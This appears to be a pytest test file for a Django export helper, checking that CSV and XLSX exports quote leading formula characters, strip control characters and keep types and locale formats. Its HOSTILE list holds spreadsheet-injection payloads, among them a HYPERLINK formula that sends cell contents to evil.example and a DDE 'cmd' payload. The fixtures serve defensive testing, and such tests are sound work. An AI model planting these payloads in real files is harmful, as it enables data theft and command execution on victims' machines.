"""The export helper: formulas never run, control characters never break a file, types are kept."""

import csv
import datetime
import decimal
import io

import pytest
from django.test import RequestFactory
from django.utils import translation
from openpyxl import load_workbook

from ancrage.core import exports

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A3&B3,"Voir")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_leading_formula_character_is_quoted(value):
    assert exports.safe_text(value).startswith("'")


def test_ordinary_text_is_unchanged():
    for value in ["Éloïse Gagnon", "Ti-Gus", "Marie-Ève (MJ)", "a=b", "1-800", ""]:
        assert exports.safe_text(value) == value


def test_control_characters_become_spaces_and_lines_stay():
    assert exports.safe_text("Jean\x1bGuy\x00\x7f\x85") == "Jean Guy   "
    assert exports.safe_text("ligne 1\nligne 2\ttab") == "ligne 1\nligne 2\ttab"


def test_numbers_and_dates_keep_their_type_but_numeric_text_does_not_become_a_number():
    assert exports.cell_value(-5) == -5
    assert exports.cell_value(decimal.Decimal("12.50")) == decimal.Decimal("12.50")
    assert exports.cell_value(datetime.date(2026, 12, 7)) == datetime.date(2026, 12, 7)
    assert exports.cell_value("-5") == "'-5"
    assert exports.cell_value(None) == ""
    assert exports.cell_value(True) == "True"


def test_aware_moments_are_written_in_montreal_time():
    moment = datetime.datetime(2026, 12, 7, 5, 20, tzinfo=datetime.UTC)
    assert exports.cell_value(moment) == datetime.datetime(2026, 12, 7, 0, 20)


def _rows_of_csv(response, delimiter=","):
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=delimiter))


@translation.override("en")
def test_csv_response_quotes_every_hostile_value():
    response, count = exports.table_response(
        filename_stem="liste 2026/12", header=["=Nom", "Âge"], rows=[[v, 40] for v in HOSTILE], as_xlsx=False
    )
    assert count == len(HOSTILE)
    assert response["Content-Disposition"] == 'attachment; filename="liste-2026-12.csv"'
    rows = _rows_of_csv(response)
    assert rows[0] == ["'=Nom", "Âge"]
    for row, value in zip(rows[1:], HOSTILE, strict=True):
        assert row[0].startswith("'")
        assert row[0].lstrip("'").strip() == value.strip()


def test_xlsx_response_writes_text_cells_never_formulas():
    rows = [[v, 40, datetime.date(2026, 1, 2)] for v in [*HOSTILE, "Jean\x1bGuy"]]
    response, count = exports.table_response(
        filename_stem="liste",
        header=["Nom", "Âge", "Le"],
        rows=rows,
        as_xlsx=True,
        sheet_title="Liste: 2026/12",
    )
    assert count == len(rows)
    book = load_workbook(io.BytesIO(response.content))
    sheet = book.active
    assert sheet.title == "Liste  2026 12"
    cells = list(sheet.iter_rows(min_row=2))
    for line in cells:
        assert line[0].data_type == "s"
        assert not str(line[0].value).startswith(("=", "+", "-", "@"))
        assert line[1].value == 40
        assert line[2].value == datetime.datetime(2026, 1, 2)
    assert cells[-1][0].value == "Jean Guy"


def test_a_french_csv_is_the_one_french_excel_opens_and_an_english_one_keeps_commas():
    """Excel set to French splits cells on `;` and reads `,` as the decimal mark; both files start with a BOM."""
    rows = [["Éloïse, dite Élo", 12.5, 3, datetime.date(2026, 12, 7)]]
    with translation.override("fr-ca"):
        french, _count = exports.table_response(
            filename_stem="x", header=["Nom", "Score"], rows=rows, as_xlsx=False
        )
    assert french.content.decode("utf-8").splitlines() == [
        "\ufeffNom;Score",
        "Éloïse, dite Élo;12,5;3;2026-12-07",
    ]
    assert _rows_of_csv(french, ";")[1] == ["Éloïse, dite Élo", "12,5", "3", "2026-12-07"]
    with translation.override("en"):
        english, _count = exports.table_response(
            filename_stem="x", header=["Name", "Score"], rows=rows, as_xlsx=False
        )
    assert _rows_of_csv(english)[1] == ["Éloïse, dite Élo", "12.5", "3", "2026-12-07"]


def test_a_workbook_is_the_default_and_a_csv_is_asked_for():
    factory = RequestFactory()
    assert exports.wants_xlsx(factory.get("/x"))
    assert exports.wants_xlsx(factory.get("/x", {"format": "xlsx"}))
    assert not exports.wants_xlsx(factory.get("/x", {"format": "csv"}))
    response, _count = exports.table_response(filename_stem="liste", header=["Nom"], rows=[["A"]])
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="liste.xlsx"'


def test_a_file_name_in_french_keeps_its_accents_beside_an_ascii_one():
    header = exports.content_disposition("journal d'activité 2026-12-07", "csv")
    assert header == (
        'attachment; filename="journal-d-activite-2026-12-07.csv"; '
        "filename*=UTF-8''journal-d-activit%C3%A9-2026-12-07.csv"
    )
    assert exports.content_disposition("by-name-list-2026-12-07", "xlsx") == (
        'attachment; filename="by-name-list-2026-12-07.xlsx"'
    )


def test_no_other_module_writes_csv_or_xlsx():
    """Tomorrow's exports too: only the helper may hold a CSV writer or a workbook."""
    import pathlib

    root = pathlib.Path(exports.__file__).resolve().parents[1]
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts or path.name == "exports.py":
            continue
        text = path.read_text(encoding="utf-8")
        if any(marker in text for marker in ("csv.writer", "csv.DictWriter", "openpyxl", "xlsxwriter")):
            offenders.append(str(path.relative_to(root)))
    assert offenders == []


def test_the_streaming_writer_makes_each_row_exactly_as_write_csv_does():
    header = ["Nom", "=Entête"]
    rows = [[value, "a\x00b\x07c", 3, datetime.date(1, 1, 1), decimal.Decimal("2.50")] for value in HOSTILE]
    rows.append(["x" * 10_000, "ligne\nsuivante", None, datetime.date(9999, 12, 31), True])
    for french in (False, True):
        whole = io.StringIO()
        exports.write_csv(whole, header, rows, french=french)
        streamed = "".join(exports.stream_csv(header, iter(rows), french=french))
        assert streamed == whole.getvalue()
    read = list(csv.reader(io.StringIO("".join(exports.stream_csv(header, rows)))))
    assert read[0] == ["Nom", "'=Entête"]
    assert [r[0] for r in read[1 : len(HOSTILE) + 1]] == ["'" + v for v in HOSTILE]
    assert read[1][1] == "a b c"
    assert read[1][3] == "0001-01-01"
    assert read[-1][3] == "9999-12-31"
    assert len(read[-1][0]) == 10_000


def test_the_streaming_writer_holds_one_row_at_a_time():
    writer = exports.CsvRowWriter()
    assert writer.header(["A", "B"]) == "A,B\r\n"
    assert writer.row(["=1+1", 2]) == "'=1+1,2\r\n"
    # Nothing of the previous row is kept: the next one comes out alone.
    assert writer.row(["c", None]) == "c,\r\n"


def test_only_the_generator_of_another_systems_files_writes_cells_verbatim():
    """The helper's verbatim mode writes ANOTHER system's HMIS files as it would (formulas and NUL bytes kept, to
    test the importer); no export may use it."""
    import pathlib

    root = pathlib.Path(exports.__file__).resolve().parents[1]
    users = sorted(
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts and "verbatim=True" in path.read_text(encoding="utf-8")
    )
    assert users == ["interop/hmis/sample.py"]
    line = exports.CsvRowWriter(verbatim=True).row(['=HYPERLINK("x")', "a\x00b"])
    assert line == '"=HYPERLINK(""x"")",a\x00b\r\n'
    assert exports.CsvRowWriter().row(['=HYPERLINK("x")']).startswith("\"'=")
